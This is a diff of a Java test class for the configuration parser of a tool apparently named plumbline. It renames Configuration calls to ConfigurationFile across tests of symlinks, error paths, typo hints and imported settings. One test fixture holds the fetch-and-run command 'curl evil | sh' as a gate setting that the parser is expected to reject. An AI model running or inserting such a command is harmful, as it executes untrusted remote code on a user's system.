@@ -175,7 +175,7 @@ class SettingsTest {
     }
 
     private Configuration read(String text) throws IOException {
-        return Configuration.read(Files.writeString(folder.resolve("plumbline.yaml"), text), folder);
+        return ConfigurationFile.read(Files.writeString(folder.resolve("plumbline.yaml"), text), folder);
     }
 
     private List<String> mistakes(String text) {
@@ -464,10 +464,10 @@ class SettingsTest {
         Path link = project.resolve("plumbline.yaml");
 
         Files.createSymbolicLink(link, real);
-        assertThat(Configuration.find(project, project).branch().value()).contains("linked");
+        assertThat(ConfigurationFile.find(project, project).branch().value()).contains("linked");
 
         Files.delete(real);
-        assertThatThrownBy(() -> Configuration.find(project, project))
+        assertThatThrownBy(() -> ConfigurationFile.find(project, project))
                 .isInstanceOf(NoSuchFileException.class)
                 .hasMessageContaining("plumbline.yaml");
     }
@@ -477,8 +477,9 @@ class SettingsTest {
         Path below = Files.createDirectories(folder.resolve("deep/below"));
         Path file = Files.writeString(folder.resolve("deep/plumbline.yaml"), "brunch: a\n");
 
-        assertThatThrownBy(() -> Configuration.read(file, folder)).hasMessageStartingWith("deep/plumbline.yaml:1:1: ");
-        assertThatThrownBy(() -> Configuration.read(file, below))
+        assertThatThrownBy(() -> ConfigurationFile.read(file, folder))
+                .hasMessageStartingWith("deep/plumbline.yaml:1:1: ");
+        assertThatThrownBy(() -> ConfigurationFile.read(file, below))
                 .hasMessageStartingWith(file.toAbsolutePath() + ":1:1: ");
     }
 
@@ -488,7 +489,7 @@ class SettingsTest {
         Files.writeString(
                 folder.resolve("plumbline/tuned.yaml"), "thresholds:\n  - {benchmark: a, margn: 3 %}\nbranch: main\n");
 
-        assertThatThrownBy(() -> Configuration.find(folder, folder))
+        assertThatThrownBy(() -> ConfigurationFile.find(folder, folder))
                 .isInstanceOf(WrongConfiguration.class)
                 .hasMessageContaining("plumbline/tuned.yaml:2:20: unknown key \"margn\" in thresholds[1]; did you mean"
                         + " \"margin\"?")
@@ -527,7 +528,7 @@ class SettingsTest {
             gate: {confirm: "curl evil | sh"}
             """);
 
-        assertThatThrownBy(() -> Configuration.document(document, folder))
+        assertThatThrownBy(() -> ConfigurationFile.document(document, folder))
                 .isInstanceOf(WrongConfiguration.class)
                 .hasMessageContaining("others.yaml:1:1: \"branch\" is not a judging setting and cannot be imported")
                 .hasMessageContaining("others.yaml:2:1: \"environment\"")
